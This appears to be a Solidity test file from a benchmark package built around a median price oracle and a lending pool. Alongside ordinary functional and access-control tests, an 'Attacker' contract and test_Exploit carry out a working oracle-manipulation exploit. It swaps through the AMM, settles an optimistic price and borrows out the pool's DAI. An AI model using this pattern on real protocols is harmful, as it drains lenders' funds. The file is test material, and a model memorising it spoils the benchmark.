// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-530d225d-64bf-424a-aa54-9e5da0d99d4f

import "./MedianOracle.sol";
import "./context/AmmPair.sol";
import "./context/LendingPool.sol";
import "./context/OptimisticFeed.sol";
import "./context/ReporterFeed.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Silent is IPriceFeed {
    function quote() external pure returns (uint256, uint64) {
        return (0, 0);
    }
}

/// Has dai, and nothing else.
contract Attacker {
    function run(AmmPair pair, OptimisticFeed feed, LendingPool pool) external {
        IERC20 dai = pair.dai();
        dai.approve(address(pair), type(uint256).max);
        pair.token().approve(address(pool), type(uint256).max);
        uint256 bought = pair.buy(dai.balanceOf(address(this)), 0);
        feed.settle();
        pool.deposit(bought);
        uint256 amount = pool.maxDebt(address(this)) - 1e18;
        uint256 there = dai.balanceOf(address(pool));
        pool.borrow(amount < there ? amount : there);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_774_900_000;
    address private constant ANA = address(0xA11A);
    address private constant BEN = address(0xBE11);
    address private constant GUARD = address(0x6A4D);
    address private constant MAKER = address(0x3A4E);
    address private constant PROPOSER = address(0x9409);
    address private constant DISPUTER = address(0xD159);

    Coin public dai;
    Coin public token;
    ReporterFeed public first;
    ReporterFeed public second;
    AmmPair public pair;
    OptimisticFeed public optimistic;
    MedianOracle public oracle;
    LendingPool public pool;
    Attacker public trader;

    function setUp() public {
        vm.warp(START);
        dai = new Coin("DAI");
        token = new Coin("TOK");
        first = new ReporterFeed(MAKER, 1e18);
        second = new ReporterFeed(MAKER, 1.02e18);
        pair = new AmmPair(token, dai);
        dai.mint(address(this), 200_000e18);
        token.mint(address(this), 200_000e18);
        dai.approve(address(pair), type(uint256).max);
        token.approve(address(pair), type(uint256).max);
        pair.addLiquidity(100_000e18, 100_000e18);
        optimistic = new OptimisticFeed(PROPOSER, DISPUTER, 1.03e18);
        oracle = new MedianOracle(GUARD);
        oracle.list(address(token), 0.1e18, 20e18, 1 days, 3);
        oracle.addFeed(address(token), first);
        oracle.addFeed(address(token), pair);
        oracle.addFeed(address(token), second);
        oracle.addFeed(address(token), optimistic);
        pool = new LendingPool(token, dai, IPriceOracle(address(oracle)), 800_000e18);
        dai.mint(address(pool), 600_000e18);

        token.mint(ANA, 3_000e18);
        dai.mint(BEN, 5_000e18);
        vm.startPrank(ANA);
        token.approve(address(pool), type(uint256).max);
        dai.approve(address(pool), type(uint256).max);
        pool.deposit(1_000e18);
        pool.borrow(700e18);
        vm.stopPrank();
        vm.prank(BEN);
        dai.approve(address(pool), type(uint256).max);

        vm.prank(PROPOSER);
        optimistic.propose(1.05e18);
        vm.warp(START + 7 hours);
        trader = new Attacker();
        dai.mint(address(trader), 300_000e18);
    }

    function post(ReporterFeed feed, uint256 value) private {
        vm.prank(MAKER);
        feed.post(value);
    }

    function test_Regular() public {
        address asset = address(token);
        require(oracle.price(asset) == 1.01e18, "mean of the two in the middle");
        (uint64 oldest, uint64 newest) = oracle.span(asset);
        require(oldest == 0 && newest == 0, "no times");
        (uint256 low, uint256 high) = oracle.range(asset);
        require(low == 1e18 && high == 1.03e18, "range");
        require(oracle.feedsOf(asset).length == 4 && oracle.quotesOf(asset)[2].price == 1.02e18, "feeds");

        // A moved pair does not move the price beyond the others.
        uint256 got = pair.buy(100_000e18, 49_000e18);
        require(oracle.price(asset) == 1.025e18, "the others hold it");
        pair.sell(got, 99_000e18);
        (low, high) = oracle.range(asset);
        require(low == 1e18 && high == 1.03e18, "back");

        // Settled and young, too old, disputed.
        optimistic.settle();
        require(optimistic.price() == 1.05e18 && oracle.price(asset) < 1.013e18, "settled");
        (oldest, newest) = oracle.span(asset);
        require(oldest == newest && newest == START + 7 hours, "one has a time");
        vm.warp(START + 32 hours);
        require(oracle.quotesOf(asset).length == 3, "too old");
        (oldest, newest) = oracle.span(asset);
        require(newest == 0, "no times left");
        vm.prank(PROPOSER);
        optimistic.propose(1.5e18);
        vm.prank(DISPUTER);
        optimistic.dispute();
        require(optimistic.proposed() == 0, "disputed");

        // An odd number of quotes, and a feed that says nothing.
        oracle.removeFeed(asset, pair);
        Silent silent = new Silent();
        oracle.addFeed(asset, silent);
        oracle.addFeed(asset, new ReporterFeed(MAKER, 1.2e18));
        require(oracle.price(asset) == 1.02e18, "median of three");
        oracle.removeFeed(asset, silent);
        oracle.addFeed(asset, pair);
        require(oracle.feedsOf(asset)[1] == second && oracle.feedsOf(asset)[4] == pair, "order");

        // Ana pays a part, borrows, pays all, takes her collateral.
        require(oracle.price(asset) > 1.009e18 && oracle.price(asset) < 1.02e18, "even again");
        vm.startPrank(ANA);
        require(pool.repay(ANA, 200e18) == 200e18, "a part");
        require(pool.debtOf(ANA) > 500e18 && pool.debtOf(ANA) < 501e18, "with interest");
        pool.deposit(500e18);
        pool.borrow(600e18);
        vm.stopPrank();

        // The price falls, and Ben liquidates.
        oracle.removeFeed(asset, pair);
        post(first, 0.81e18);
        post(second, 0.84e18);
        require(oracle.price(asset) == 0.84e18, "fallen");
        vm.prank(BEN);
        require(pool.liquidate(ANA, 420e18, 525e18) == 525e18 && token.balanceOf(BEN) == 525e18, "a part of it");
        require(pool.collateralOf(ANA) == 975e18, "what is left");
        vm.startPrank(ANA);
        uint256 debt = pool.debtOf(ANA);
        dai.approve(address(pool), type(uint256).max);
        pool.repay(ANA, debt - 1e18);
        pool.withdraw(400e18);
        pool.repay(ANA, type(uint256).max);
        require(pool.debtOf(ANA) == 0 && pool.totalScaled() == 0, "no debt");
        pool.withdraw(575e18);
        require(token.balanceOf(ANA) == 2_475e18, "collateral is back");
        vm.stopPrank();

        // The rest.
        vm.prank(GUARD);
        oracle.freeze(asset);
        (, , bool frozen) = oracle.rulesOf(asset);
        require(frozen, "frozen");
        oracle.unfreeze(asset);
        oracle.freeze(asset);
        oracle.unfreeze(asset);
        oracle.setBand(asset, 0.2e18, 10e18);
        oracle.setRules(asset, 12 hours, 4);
        (uint32 age, uint8 quorum, bool stopped) = oracle.rulesOf(asset);
        require(age == 12 hours && quorum == 4 && !stopped, "rules");
        (low, high) = oracle.bandOf(asset);
        require(low == 0.2e18 && high == 10e18 && oracle.assetCount() == 1, "band");
        oracle.setGuardian(BEN);
        oracle.transferOwnership(ANA);
        vm.prank(ANA);
        oracle.acceptOwnership();
        vm.prank(ANA);
        oracle.renounceOwnership();
        require(oracle.guardian() == BEN && oracle.owner() == address(0), "nobody's");
        first.setReporter(BEN);
        require(first.reporter() == BEN, "reporter");
        pair.removeLiquidity(1_000e18, 1_000e18);
        pool.setDebtCap(1e18);
        pool.setPaused(true);
        pool.setPaused(false);
        uint256 all = dai.balanceOf(address(pool));
        pool.withdrawReserves(all);
        require(all > 600_000e18 && dai.balanceOf(address(pool)) == 0, "interest came in");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function says(address who, string memory why) private {
        refuses(who, abi.encodeWithSignature("Error(string)", why));
    }

    function test_RefusesStrangers() public {
        string memory why = "Ownable: caller is not the owner";
        says(BEN, why);
        oracle.list(address(dai), 1, 2, 1 days, 3);
        says(BEN, why);
        oracle.setBand(address(token), 1, 2);
        says(BEN, why);
        oracle.setRules(address(token), 1 days, 3);
        Silent silent = new Silent();
        says(BEN, why);
        oracle.addFeed(address(token), silent);
        says(BEN, why);
        oracle.removeFeed(address(token), first);
        says(BEN, why);
        oracle.setGuardian(BEN);
        says(GUARD, why);
        oracle.unfreeze(address(token));
        says(BEN, why);
        oracle.transferOwnership(BEN);
        says(BEN, why);
        oracle.renounceOwnership();
        says(BEN, "Ownable2Step: caller is not the new owner");
        oracle.acceptOwnership();
        says(BEN, "not guardian");
        oracle.freeze(address(token));
        says(BEN, why);
        first.setReporter(BEN);
        says(BEN, "not reporter");
        first.post(1e18);
        says(BEN, why);
        pair.addLiquidity(0, 0);
        says(BEN, why);
        pair.removeLiquidity(1, 1);
        says(BEN, "not proposer");
        optimistic.propose(1e18);
        says(BEN, "not disputer");
        optimistic.dispute();
        says(BEN, why);
        pool.setDebtCap(1);
        says(BEN, why);
        pool.setPaused(true);
        says(BEN, why);
        pool.withdrawReserves(1);
    }

    function test_RefusesAssets() public {
        address asset = address(token);
        bytes memory unknown = abi.encodeWithSelector(MedianOracle.UnknownAsset.selector, address(dai));
        address me = address(this);
        says(me, "no asset");
        oracle.list(address(0), 1, 2, 1 days, 3);
        says(me, "listed");
        oracle.list(asset, 1, 2, 1 days, 3);
        refuses(me, unknown);
        oracle.setBand(address(dai), 1, 2);
        refuses(me, unknown);
        oracle.setRules(address(dai), 1 days, 3);
        refuses(me, unknown);
        oracle.addFeed(address(dai), first);
        refuses(GUARD, unknown);
        oracle.freeze(address(dai));
        refuses(me, unknown);
        oracle.price(address(dai));
        refuses(me, unknown);
        oracle.range(address(dai));
        refuses(me, unknown);
        oracle.span(address(dai));
        refuses(me, unknown);
        oracle.quotesOf(address(dai));
        says(me, "empty band");
        oracle.setBand(asset, 0, 2);
        says(me, "empty band");
        oracle.setBand(asset, 2, 2);
        says(me, "bad age");
        oracle.setRules(asset, 1 hours - 1, 3);
        says(me, "bad age");
        oracle.setRules(asset, 7 days + 1, 3);
        says(me, "bad quorum");
        oracle.setRules(asset, 1 days, 2);
        says(me, "bad quorum");
        oracle.setRules(asset, 1 days, 10);
    }

    function test_RefusesFeeds() public {
        address asset = address(token);
        address me = address(this);
        refuses(me, abi.encodeWithSelector(MedianOracle.BadFeed.selector, first));
        oracle.addFeed(asset, first);
        Silent other = new Silent();
        refuses(me, abi.encodeWithSelector(MedianOracle.BadFeed.selector, other));
        oracle.removeFeed(asset, other);
        for (uint256 i = 0; i < 5; ++i) oracle.addFeed(asset, new Silent());
        says(me, "too many feeds");
        oracle.addFeed(asset, other);
    }

    function test_RefusesPrices() public {
        address asset = address(token);
        address me = address(this);
        oracle.setBand(asset, 2e18, 3e18);
        refuses(me, abi.encodeWithSelector(MedianOracle.OutOfBand.selector, 1.01e18));
        oracle.price(asset);
        oracle.setBand(asset, 1, 0.5e18);
        refuses(me, abi.encodeWithSelector(MedianOracle.OutOfBand.selector, 1.01e18));
        oracle.price(asset);
        oracle.removeFeed(asset, first);
        oracle.removeFeed(asset, pair);
        refuses(me, abi.encodeWithSelector(MedianOracle.TooFewQuotes.selector, 2, 3));
        oracle.quotesOf(asset);
        vm.prank(GUARD);
        oracle.freeze(asset);
        refuses(me, abi.encodeWithSelector(MedianOracle.Frozen.selector, asset));
        oracle.price(asset);
    }

    function test_RefusesFeedInputs() public {
        address me = address(this);
        says(me, "bad setup");
        new ReporterFeed(address(0), 1);
        says(me, "bad setup");
        new ReporterFeed(MAKER, 0);
        says(me, "no reporter");
        first.setReporter(address(0));
        says(MAKER, "big step");
        first.post(1.2e18 + 1);
        says(MAKER, "big step");
        first.post(0.8e18 - 1);
        says(me, "same account");
        new OptimisticFeed(MAKER, MAKER, 1);
        says(PROPOSER, "no value");
        optimistic.propose(0);
        says(me, "slippage");
        pair.buy(1e18, 1e18);
        says(me, "slippage");
        pair.sell(1e18, 1e18);
        vm.prank(PROPOSER);
        optimistic.propose(1e18);
        says(me, "too early");
        optimistic.settle();
        vm.prank(DISPUTER);
        optimistic.dispute();
        refuses(me, abi.encodeWithSelector(OptimisticFeed.NothingProposed.selector));
        optimistic.settle();
        refuses(DISPUTER, abi.encodeWithSelector(OptimisticFeed.NothingProposed.selector));
        optimistic.dispute();
    }

    function test_RefusesLoans() public {
        says(address(this), "bad setup");
        new LendingPool(dai, dai, IPriceOracle(address(oracle)), 1);
        says(address(this), "bad setup");
        new LendingPool(token, dai, IPriceOracle(address(0)), 1);
        says(BEN, "healthy");
        pool.liquidate(ANA, 1e18, 0);
    }

    function test_RefusesUncoveredLoans() public {
        pool.accrue();
        uint256 allowed = pool.maxDebt(ANA);
        uint256 debt = pool.debtOf(ANA);
        uint256 more = allowed - debt + 1e18;
        vm.prank(ANA);
        try pool.borrow(more) {
            revert("lent");
        } catch (bytes memory why) {
            require(bytes4(why) == LendingPool.NotEnoughCollateral.selector, "another reason");
        }
        vm.prank(ANA);
        try pool.withdraw(100e18) {
            revert("withdrawn");
        } catch (bytes memory why) {
            require(bytes4(why) == LendingPool.NotEnoughCollateral.selector, "another reason");
        }
        says(ANA, "nothing to pay");
        pool.repay(ANA, 0);
        pool.setDebtCap(705e18);
        says(ANA, "debt cap");
        pool.borrow(10e18);
        post(first, 0.8e18);
        post(second, 0.82e18);
        oracle.removeFeed(address(token), optimistic);
        says(BEN, "slippage");
        pool.liquidate(ANA, 100e18, 130e18);
        pool.setPaused(true);
        says(ANA, "Pausable: paused");
        pool.borrow(1);
        says(ANA, "Pausable: paused");
        pool.deposit(1);
    }

    function exploit() public {
        trader.run(pair, optimistic, pool);
    }

    function test_Exploit() public {
        uint256 before = dai.balanceOf(address(trader));
        exploit();
        require(dai.balanceOf(address(trader)) >= before + 150_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(oracle);
    }

    function attacker() public view returns (address) {
        return address(trader);
    }
}
